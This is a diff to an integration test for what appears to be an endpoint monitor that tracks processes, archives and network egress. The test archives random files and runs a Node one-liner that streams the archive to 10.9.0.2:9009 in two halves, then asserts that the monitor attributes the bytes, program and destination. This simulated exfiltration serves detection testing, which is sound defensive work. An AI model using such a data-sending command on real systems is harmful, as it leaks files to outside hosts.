@@ -4,11 +4,16 @@ import { randomBytes } from 'node:crypto'
 import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
+import type { Event, EventOf } from '../../wire/event.ts'
 import { enterNamespace, type Namespace, needsNamespace } from './namespace.ts'
 import { needsCommands } from './needs.ts'
 import { assertFound, rulesFor } from './rules-for.ts'
 
 const MEGABYTE = 1_048_576
+
+function isSum(it: Event): it is EventOf<'egress'> {
+  return it.category === 'egress' && it.Image === null && it.DestinationIp === null
+}
 
 describe('real runs: networks', function () {
   this.timeout(60_000)
@@ -49,13 +54,13 @@ describe('real runs: networks', function () {
     assert.deepEqual(await rulesFor([up]), [])
   })
 
-  it('an archive is created and uploaded: its size, and then as many bytes', async function () {
+  it('an archive is created and uploaded: its size, and then as many bytes, by which program and to whom', async function () {
     needsCommands(this, 'tar', 'nsenter')
     mkdirSync(join(folder, 'src'))
     mkdirSync(join(folder, 'out'))
     // Incompressible, and large enough that the archiver runs for a poll or two.
     for (let n = 0; n < 8; n++) writeFileSync(join(folder, 'src', `part-${n}.ts`), randomBytes(MEGABYTE))
-    there = enterNamespace(['processes', 'watched-folders', 'archives', 'interfaces', 'connections'], {
+    there = enterNamespace(['processes', 'watched-folders', 'archives', 'interfaces', 'flows', 'connections'], {
       folder,
       policy: { watchedRoots: [{ path: join(folder, 'out'), kind: 'staging' }] },
     })
@@ -82,15 +87,16 @@ describe('real runs: networks', function () {
     assert.ok(made.Bytes > 8 * MEGABYTE && made.Bytes < 9 * MEGABYTE, `${made.Bytes} bytes`)
     assert.doesNotMatch(JSON.stringify(made), /code\.tgz|src/)
 
-    const upload = `const s = require('net').connect(9009, '10.9.0.2', () => require('fs').createReadStream('${folder}/out/code.tgz').pipe(s)); setTimeout(() => {}, 1500)`
+    // In two halves, so that it is still there at a look, as with gigabytes of data.
+    const upload = `const all = require('fs').readFileSync('${folder}/out/code.tgz'); const half = all.length >> 1; const s = require('net').connect(9009, '10.9.0.2', () => s.write(all.subarray(0, half))); setTimeout(() => s.end(all.subarray(half)), 1500)`
     await there.do(`${process.execPath} -e "${upload}"`)
     const connection = await there.until('network_connection', (it) => it.DestinationPort === 9_009)
     assert.deepEqual([connection.DestinationIp, connection.Initiated], ['10.9.0.2', true])
     const { events } = there
-    await there.until(
-      'egress',
-      () => events.reduce((sum, it) => sum + (it.category === 'egress' ? it.BytesSent : 0), 0) >= made.Bytes,
-    )
+    await there.until('egress', () => events.reduce((sum, it) => sum + (isSum(it) ? it.BytesSent : 0), 0) >= made.Bytes)
+    const flow = await there.until('egress', (it) => it.DestinationIp !== null)
+    assert.deepEqual([flow.Image, flow.DestinationIp, flow.DestinationPort], [process.execPath, '10.9.0.2', 9_009])
+    assert.ok(Math.abs(flow.BytesSent - made.Bytes) <= 2, `${flow.BytesSent} of ${made.Bytes}`)
     await there.do(`kill $(cat ${far}) $(cat ${far}.sink)`)
   })
 })
